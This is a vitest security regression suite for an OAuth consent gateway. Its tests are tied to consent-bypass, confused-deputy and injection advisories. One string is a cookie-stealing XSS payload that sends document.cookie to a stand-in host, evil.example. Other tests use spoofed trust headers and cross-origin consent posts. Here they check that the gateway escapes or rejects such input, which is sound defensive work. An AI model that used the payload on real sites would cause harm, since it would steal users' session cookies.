import { describe, expect, it } from 'vitest';
import { HttpBrowser } from '../../../support/http-browser.ts';
import { alice } from '../../../support/person.ts';
import { signInOverHttp } from '../../../support/sign-in-over-http.ts';
import { Client } from '../../../oauth-conformance/support/client.ts';
import { encode, get, post, send } from '../../../oauth-conformance/support/http.ts';
import type { World } from '../../../oauth-conformance/support/world.ts';
import { openHostileScene } from './hostile-provider.ts';
import { sharedWorld } from './shared-world.ts';

/** Answers the one consent that waits for this client, as the person would in Gatehouse's own list. */
async function answerInGatehouse(
  world: World,
  client: Client,
  decision: 'allow' | 'deny',
  body?: object,
): Promise<void> {
  const consents = (await world.admin('GET', '/consents')).json as unknown as { id: string; client_id: string }[];
  const mine = consents.find(({ client_id: id }) => id === client.id);
  expect((await world.admin('POST', `/consents/${String(mine?.id)}/${decision}`, body)).status).toBe(200);
}

/** Advisories on consent that was skipped, ridden on, or dressed up. */
describe('Advisories: consent and confused deputy', () => {
  const world = sharedWorld();

  it('CVE-2026-27124 the callback counts in the browser only that gave the consent', async () => {
    const scene = await openHostileScene(world());
    const { answer, cookie } = await scene.toProvider();
    const atProvider = await send('GET', answer.location.href);
    const callback = atProvider.location.href;
    // The victim's browser, which the attacker sent to the provider's answer.
    const victim = await get(callback, { cookie: 'gatehouse_other=x' });
    expect(victim.status).toBe(403);
    expect(victim.headers.location).toBeUndefined();
    expect(scene.provider.count('authorization_code')).toBe(0);
    // The answer was spent by that: not even its own browser can use it after.
    expect((await get(callback, { cookie })).status).toBe(409);
  });

  const fromElsewhere: readonly Record<string, string>[] = [
    {},
    { 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'same-site' },
    { 'sec-fetch-site': 'same-origin' },
  ];
  it.each(fromElsewhere)(
    'GHSA-6x8h-498w-gv8c a remembered approval is not ridden on by another page: %j',
    async (headers) => {
      const client = await Client.register(world(), world().gateway, {
        redirect_uris: ['https://vscode.dev/redirect'],
      });
      const first = (await client.authorize()).location.href;
      const cookie = (await get(first)).headers['set-cookie']?.[0]?.split(';')[0] ?? '';
      await answerInGatehouse(world(), client, 'allow', { remember: true });
      expect((await get(first, { cookie })).status).toBe(302);

      const second = (await get(client.authorizeUrl(), headers)).location.href;
      const page = await get(second, headers);
      expect(page.status).toBe(200);
      expect(page.text).toContain('Allow');
      await answerInGatehouse(world(), client, 'deny');
    },
  );
  it('GHSA-6x8h-498w-gv8c nothing is remembered for a client that cannot prove who it is', async () => {
    const client = await Client.register(world(), world().gateway);
    const first = (await client.authorize()).location.href;
    await get(first);
    await answerInGatehouse(world(), client, 'allow', { remember: true });
    const own = { 'sec-fetch-site': 'none' };
    const page = await get((await get(client.authorizeUrl(), own)).location.href, own);
    expect(page.status).toBe(200);
    await answerInGatehouse(world(), client, 'deny');
  });

  const markup = '"><script>fetch("//evil.example/"+document.cookie)</script>';
  it('CVE-2025-62800 words of the provider at the callback are text, under a policy that runs nothing', async () => {
    const scene = await openHostileScene(world());
    scene.provider.signInError = { error: markup, error_description: markup };
    const { answer, cookie } = await scene.toProvider();
    const landed = await get((await send('GET', answer.location.href)).location.href, { cookie });
    expect(landed.text).not.toContain('<script>fetch');
    expect(landed.status).toBe(302);
    expect(landed.location.searchParams.get('error')).toBe('server_error');
    const unknown = await get(
      `${world().gateway.gatewayOrigin()}/api/v1/oauth/callback?${encode({ error: markup, state: markup })}`,
    );
    expect(unknown.text).not.toContain('<script>fetch');
    expect(unknown.headers['content-security-policy']).toMatch(/^default-src 'none'/);
  });
  it('CVE-2026-32112 a client name is text on every page, without characters that hide or turn', async () => {
    const client = await Client.register(world(), world().gateway, { client_name: `${markup}\u202eevil\u200b` });
    const page = await get((await client.authorize()).location.href);
    expect(page.text).not.toContain('<script>fetch');
    expect(page.text).not.toMatch(/[\u202e\u200b]/);
    await answerInGatehouse(world(), client, 'deny');
    const refused = await client.authorize({ redirect_uri: 'https://evil.example/x' });
    expect(refused.text).not.toContain('<script>fetch');
  });
  it('CVE-2026-32112 a name as long as a book is cut', async () => {
    const client = await Client.register(world(), world().gateway, { client_name: 'A'.repeat(1500) });
    const page = await get((await client.authorize()).location.href);
    expect(page.text).not.toContain('A'.repeat(100));
    await answerInGatehouse(world(), client, 'deny');
  });

  describe('CVE-2026-54618, OpenPass #21, MetaMCP', () => {
    const wishes: readonly [what: string, changes: Record<string, string>, headers: Record<string, string>][] = [
      ['a plain request', {}, {}],
      ['prompt=none', { prompt: 'none' }, {}],
      [
        'parameters that claim consent',
        { consent: 'true', approved: '1', decision: 'allow', auto_approve: 'true' },
        {},
      ],
      ['a request for JSON', {}, { accept: 'application/json' }],
      ['a request that names itself trusted', {}, { 'x-forwarded-user': 'alice', 'sec-fetch-site': 'none' }],
    ];
    it.each(wishes)(
      '%s leads to no code and not to the provider without a decision',
      async (_what, changes, headers) => {
        const client = await Client.register(world(), world().gateway);
        const first = await get(client.authorizeUrl(changes), headers);
        if (first.location.searchParams.has('error'))
          return expect(first.location.searchParams.has('code')).toBe(false);
        let cookie = '';
        for (let visit = 0; visit < 3; visit += 1) {
          const page = await get(`${first.location.href}&decision=allow`, {
            ...headers,
            ...(cookie ? { cookie } : {}),
          });
          cookie ||= page.headers['set-cookie']?.[0]?.split(';')[0] ?? '';
          expect(page.headers.location).toBeUndefined();
          expect(page.text).not.toContain(world().provider.issuer);
        }
        await answerInGatehouse(world(), client, 'deny');
      },
    );
    it('a consent that was denied stays so', async () => {
      const client = await Client.register(world(), world().gateway);
      const url = (await client.authorize()).location.href;
      const cookie = (await get(url)).headers['set-cookie']?.[0]?.split(';')[0] ?? '';
      await answerInGatehouse(world(), client, 'deny');
      const answer = await get(url, { cookie });
      expect(answer.location.searchParams.get('error')).toBe('access_denied');
      expect((await get(url, { cookie })).status).toBe(410);
    });
  });

  it('anythingmcp 0.3.4 the page names scheme, host and port that the code goes to', async () => {
    for (const uri of [
      'http://127.0.0.1:51234/callback',
      'https://vscode.dev/redirect',
      'cursor://anysphere.cursor-mcp/oauth/callback',
    ]) {
      const client = await Client.register(world(), world().gateway, { redirect_uris: [uri], client_name: 'Claude' });
      const page = await get((await client.authorize()).location.href);
      expect(page.text).toContain(uri);
      expect(page.text).toContain(uri.startsWith('cursor:') ? 'cursor://anysphere.cursor-mcp' : new URL(uri).host);
      await answerInGatehouse(world(), client, 'deny');
    }
  });
  it('anythingmcp 0.3.4 a page of another site cannot press Allow', async () => {
    const client = await Client.register(world(), world().gateway);
    const url = (await client.authorize()).location.href;
    const page = await get(url);
    const cookie = page.headers['set-cookie']?.[0]?.split(';')[0] ?? '';
    const fields = {
      txn_id: new URL(url).searchParams.get('txn_id'),
      csrf: /name="csrf" value="([^"]*)"/.exec(page.text)?.[1] ?? '',
      decision: 'allow',
    };
    for (const origin of ['https://evil.example', 'null', world().gateway.issuer()]) {
      expect((await post(world().gateway.endpoint('consent'), fields, { cookie, origin })).status).toBe(403);
    }
    await answerInGatehouse(world(), client, 'deny');
  });

  it('FastMCP #2305 the form is answered by a page that moves on, under a policy that lets it', async () => {
    const client = await Client.register(world(), world().gateway);
    const statuses: string[] = [];
    const browser = new HttpBrowser(
      ({ method, status, pressed }) => void (pressed === 'Allow' && statuses.push(`${method} ${status}`)),
    );
    const page = await signInOverHttp(browser, client.authorizeUrl(), alice);
    expect(new URL(page.url).searchParams.has('code')).toBe(true);
    expect(statuses).toEqual(['POST 200']);
    const asking = await get((await client.authorize()).location.href);
    expect(asking.headers['content-security-policy']).not.toContain('form-action');
    await answerInGatehouse(world(), client, 'deny');
  });
});
